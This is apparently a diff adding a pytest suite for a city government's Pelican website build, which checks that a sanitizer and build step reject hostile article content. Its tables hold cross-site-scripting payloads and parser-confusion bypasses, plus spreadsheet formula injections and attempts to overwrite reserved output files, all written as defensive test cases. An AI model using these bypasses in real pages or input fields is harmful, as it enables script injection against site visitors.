@@ -1,0 +1,262 @@
+"""Content is untrusted input: what an attacker or a careless editor writes never runs in a
+citizen's browser, never replaces what the build generates, and always gets a clear error.
+
+The hostile cases are tables, so the next attacker's idea is one more row. Most rows run through
+the library (Markdown as Pelican renders it, then the sanitizer); a handful run whole builds, and
+one build is loaded page by page in Chromium, the parser that matters.
+"""
+
+import csv
+import hashlib
+import io
+import json
+import shutil
+from pathlib import Path
+
+import markdown
+import pytest
+
+from warta import ROOT
+from warta.addresses import Reserved, reserved_findings
+from warta.build import BuildError, build, load_settings
+from warta.sanitize import TAGS, URL_SCHEMES, Sanitizer, _parse_everything
+
+from ppid.open_data import dip_csv
+
+# Raw HTML in a body, each of which once built with exit 0 and ran (or could run) script, sent
+# the citizen elsewhere, or loaded something from another origin. (name, Markdown body, needle
+# expected on the reported line or None when the payload is obfuscated beyond recognition).
+HOSTILE_BODIES = [
+    ("xmp-title", '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>\n', "<script"),
+    ("noscript-title", '<noscript><p title="</noscript><script>alert(1)</script>"></noscript>\n',
+     "<script"),
+    ("bogus-comment", "<!--><script>alert(1)</script>-->\n", "<script"),
+    ("fence-in-blockquote", "> ~~~\n> <script>alert(1)</script>\n> ~~~\n", "<script"),
+    ("script", "<script>alert(1)</script>\n", "<script"),
+    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://contoh.invalid/">\n',
+     "<meta"),
+    ("form", '<form action="https://contoh.invalid/"><input name="nik"></form>\n', "<form"),
+    ("base", '<base href="https://contoh.invalid/">\n', "<base"),
+    ("stylesheet", '<link rel="stylesheet" href="https://contoh.invalid/x.css">\n', "<link"),
+    ("style-element", "<style>body{display:none}</style>\n", "<style"),
+    ("markdown-javascript-link", "[Unduh formulir](javascript:alert(1))\n", None),
+    ("entity-javascript", '<a href="&#106;avascript:alert(1)">Jadwal</a>\n', None),
+    ("tab-javascript", '<a href="java&#x09;script:alert(1)">Jadwal</a>\n', None),
+    ("vbscript", '<a href="vbscript:msgbox(1)">Jadwal</a>\n', None),
+    ("data-image", '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="Peta">\n', None),
+    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>\n', "<svg"),
+    ("event-handler", '<p onclick="alert(1)">Jadwal pasar</p>\n', "onclick"),
+    ("img-onerror", '<img src="x.webp" alt="Peta" onerror="alert(1)">\n', "onerror"),
+    ("iframe", '<iframe src="https://contoh.invalid/" title="Peta"></iframe>\n', "<iframe"),
+    ("object", '<object data="https://contoh.invalid/x.swf"></object>\n', "<object"),
+    ("embed", '<embed src="https://contoh.invalid/x.swf">\n', "<embed"),
+    ("math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>\n', "<math"),
+    ("template", "<template><script>alert(1)</script></template>\n", "<template"),
+    ("attr-list-handler", "Jadwal pasar\n{: onmouseover=alert(1) }\n", None),
+]
+
+ARTICLE_HEADER = """Title: Jadwal pasar murah
+Date: 2024-05-02 10:00
+Category: Diskominfo
+Slug: jadwal-pasar-murah
+Summary: Jadwal pasar murah di tujuh kecamatan.
+
+Paragraf pembuka.
+
+"""
+
+
+@pytest.fixture(scope="module")
+def settings():
+    return load_settings()
+
+
+@pytest.fixture(scope="module")
+def sanitizer():
+    return Sanitizer()
+
+
+def rendered(settings, body):
+    """The body as Pelican's Markdown reader renders it with the city's MARKDOWN settings."""
+    config = settings["MARKDOWN"]
+    return markdown.Markdown(extensions=list(config["extension_configs"]),
+                             extension_configs=config["extension_configs"],
+                             output_format=config.get("output_format", "html5")).convert(body)
+
+
+def unsafe_parts(html):
+    """Everything in ``html``, parsed as a browser does, that the allowlist does not allow."""
+    from html.parser import HTMLParser
+
+    found = []
+
+    class Parts(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            if tag not in TAGS:
+                found.append(f"<{tag}>")
+            for name, value in attrs:
+                if name.startswith("on"):
+                    found.append(f"{tag}[{name}]")
+                if name in ("href", "src", "xlink:href", "action", "formaction") and value \
+                        and ":" in value.split("/", 1)[0] \
+                        and value.split(":", 1)[0].strip().lower() not in URL_SCHEMES:
+                    found.append(f"{tag}[{name}={value[:20]}]")
+
+    Parts().feed(_parse_everything(html))
+    return found
+
+
+@pytest.mark.parametrize("name, body, needle", HOSTILE_BODIES, ids=[r[0] for r in HOSTILE_BODIES])
+def test_hostile_body_is_reported_and_nothing_unsafe_remains(name, body, needle, settings,
+                                                             sanitizer, tmp_path):
+    html = rendered(settings, body)
+    cleaned, removed = sanitizer.check(html)
+    assert removed, f"{name}: the sanitizer removed something silently or not at all: {cleaned!r}"
+    assert unsafe_parts(cleaned) == []
+    from content_check.content_check import _removal_findings
+
+    source = tmp_path / "2024-05-02-jadwal.md"
+    source.write_text(ARTICLE_HEADER + body, encoding="utf-8")
+    findings = _removal_findings(str(source), removed, None)
+    body_line = ARTICLE_HEADER.count("\n") + 1
+    assert all(f.rule == "html-tidak-diizinkan" and f.fix for f in findings)
+    if needle:
+        assert findings[0].line >= body_line
+        line_text = source.read_text(encoding="utf-8").splitlines()[findings[0].line - 1]
+        assert needle in line_text.lower()
+
+
+SAFE_BODIES = [
+    "Paragraf dengan **tebal**, *miring*, `kode` dan [tautan](https://contoh.go.id/).\n",
+    "[Surel kami](mailto:diskominfo@contoh.go.id) atau [telepon](tel:+62211234567).\n",
+    "| Kecamatan | Penerima |\n|---|---|\n| Sukamaju | 12 |\n",
+    "![Peta kecamatan](/images/peta.webp \"Peta tujuh kecamatan\")\n",
+    "Teks &lt;script&gt; yang ditulis sebagai teks, dan 5 &amp; 6.\n",
+    "Catatan kaki[^1].\n\n[^1]: Sumber: BPS Kota Contoh.\n",
+    "*[BPS]: Badan Pusat Statistik\n\nData BPS terbaru.\n",
+    "Program *smart city*{: lang=en } diperluas.\n",
+    "<details><summary>Syarat</summary><p>KTP dan KK.</p></details>\n",
+    "<!-- catatan redaksi: periksa angka -->\nParagraf.\n",
+]
+
+
+@pytest.mark.parametrize("body", SAFE_BODIES)
+def test_supported_markdown_passes_the_sanitizer_unchanged(body, settings, sanitizer):
+    html = rendered(settings, body)
+    cleaned, removed = sanitizer.check(html)
+    assert removed == []
+
+
+def test_allowed_iframe_host_passes_and_others_do_not():
+    sanitizer = Sanitizer(["https://www.youtube-nocookie.com/embed/"])
+    good = '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Video"></iframe>'
+    bad = '<iframe src="https://contoh.invalid/embed/abc" title="Video"></iframe>'
+    assert sanitizer.check(good)[1] == []
+    assert sanitizer.check(bad)[1]
+
+
+# --- Addresses the build writes itself ----------------------------------------------------------
+RESERVED_ADDRESSES = [
+    ("index.html", "berita/2024-x.md"),
+    ("404.html", "berita/2024-x.md"),
+    ("feed/berita.atom.xml", "berita/2024-x.md"),
+    ("ppid/dip.json", "berita/2024-x.md"),
+    ("ppid/dip.csv", "halaman/x.md"),
+    ("sitemap.xml", "halaman/x.md"),
+    ("robots.txt", "halaman/x.md"),
+    ("theme/js/dengarkan.js", "halaman/x.md"),
+    ("pagefind/pagefind.js", "halaman/x.md"),
+] + [(f"{slug}/index.html", "halaman/x.md") for slug in
+     ("cari", "ppid", "tampilan", "arsip", "opd", "topik", "video", "majalah", "penulis")]
+
+
+@pytest.mark.parametrize("address, source", RESERVED_ADDRESSES)
+def test_content_cannot_take_an_address_the_build_writes(address, source, settings):
+    findings = reserved_findings([(address, source, f"content/{source}", 3)], settings)
+    assert [f.rule for f in findings] == ["url-cadangan"]
+    assert "Slug" in findings[0].fix
+
+
+def test_sections_keep_their_own_folders(settings):
+    reserved = Reserved(settings)
+    assert reserved.taken_by("ppid/dokumen/rencana-kerja/index.html", "ppid/dokumen/x.md") is None
+    assert reserved.taken_by("video/belanja/index.html", "video/belanja.md") is None
+    assert reserved.taken_by("berita/2024/x/index.html", "berita/2024-x.md") is None
+    assert reserved.taken_by("images/peta.webp", "images/peta.webp") is None
+    assert reserved.taken_by("kontak/index.html", "halaman/kontak.md") is None
+    assert reserved.taken_by("ppid/dip/index.html", "ppid/halaman/dip.md")
+
+
+# --- dip.csv in a spreadsheet ------------------------------------------------------------------
+def test_dip_csv_neutralises_formulas_and_keeps_other_text():
+    row = {name: "" for name in ("nomor", "kategori", "judul", "ringkasan", "opd", "tahun",
+                                 "dikuasai_oleh", "penanggung_jawab", "waktu_pembuatan",
+                                 "tempat_pembuatan", "bentuk", "retensi", "diperbarui",
+                                 "dasar_hukum", "uji_konsekuensi", "url")}
+    payloads = {"judul": '=HYPERLINK("https://contoh.invalid","Klik")', "ringkasan": "+1+1",
+                "opd": "-2+3", "tempat_pembuatan": "@SUM(A1)", "bentuk": "\tOnline",
+                "retensi": "\r5 tahun", "dikuasai_oleh": "Bidang A - Seksi B"}
+    row.update(payloads, tahun=2025, lampiran=[])
+    parsed = list(csv.DictReader(io.StringIO(dip_csv([row]))))[0]
+    for key, value in payloads.items():
+        if key == "dikuasai_oleh":
+            assert parsed[key] == value
+        else:
+            assert parsed[key] == "'" + value
+            assert not parsed[key].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+# --- Whole builds -------------------------------------------------------------------------------
+def _tree_digest(folder):
+    digest = hashlib.sha256()
+    for path in sorted(Path(folder).rglob("*")):
+        if path.is_file():
+            digest.update(str(path.relative_to(folder)).encode())
+            digest.update(path.read_bytes())
+    return digest.hexdigest()
+
+
+@pytest.fixture
+def small_site(tmp_path):
+    content = tmp_path / "content"
+    shutil.copytree(Path(__file__).parent / "test_data" / "content", content)
+    output = tmp_path / "output"
+    build(output, content=content)
+    return content, output, _tree_digest(output)
+
+
+WHOLE_BUILD_CASES = [
+    ("xmp-body", "berita/2024-05-02-jadwal.md",
+     ARTICLE_HEADER + '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>\n',
+     "html-tidak-diizinkan"),
+    ("meta-refresh-summary", "berita/2024-05-02-jadwal.md",
+     ARTICLE_HEADER.replace("Summary: Jadwal pasar murah di tujuh kecamatan.",
+                            'Summary: Jadwal <meta http-equiv="refresh" content="0;url=/x/">'),
+     "html-tidak-diizinkan"),
+    ("save-as-home-page", "berita/2024-05-02-jadwal.md",
+     ARTICLE_HEADER.replace("Slug: jadwal-pasar-murah", "Save_as: index.html"), "url-cadangan"),
+    ("save-as-feed", "berita/2024-05-02-jadwal.md",
+     ARTICLE_HEADER.replace("Slug: jadwal-pasar-murah", "Save_as: feed/berita.atom.xml"),
+     "url-cadangan"),
+    ("page-slug-cari", "halaman/cari.md",
+     "Title: Cara mencari\nSlug: cari\nSummary: Cara mencari berita lama.\n\nIsi.\n", "url-cadangan"),
+    ("page-slug-ppid", "halaman/ppid.md",
+     "Title: PPID\nSlug: ppid\nSummary: Tentang PPID.\n\nIsi.\n", "url-cadangan"),
+]
+
+
+@pytest.mark.parametrize("name, relative, text, rule", WHOLE_BUILD_CASES,
+                         ids=[c[0] for c in WHOLE_BUILD_CASES])
+def test_hostile_file_fails_the_build_cleanly_and_output_is_untouched(name, relative, text, rule,
+                                                                      small_site):
+    content, output, before = small_site
+    (content / relative).write_text(text, encoding="utf-8")
+    with pytest.raises(BuildError) as error:
+        build(output, content=content)
+    message = str(error.value)
+    lines = [line.strip() for line in message.splitlines() if f": {rule}: " in line]
+    assert lines, message
+    assert lines[0].startswith(f"content/{relative}:") or f"/{relative}:" in lines[0]
+    assert "Traceback" not in message and ".output-" not in message
+    assert "FileOverwriteFailedError" not in message
+    assert _tree_digest(output) == before
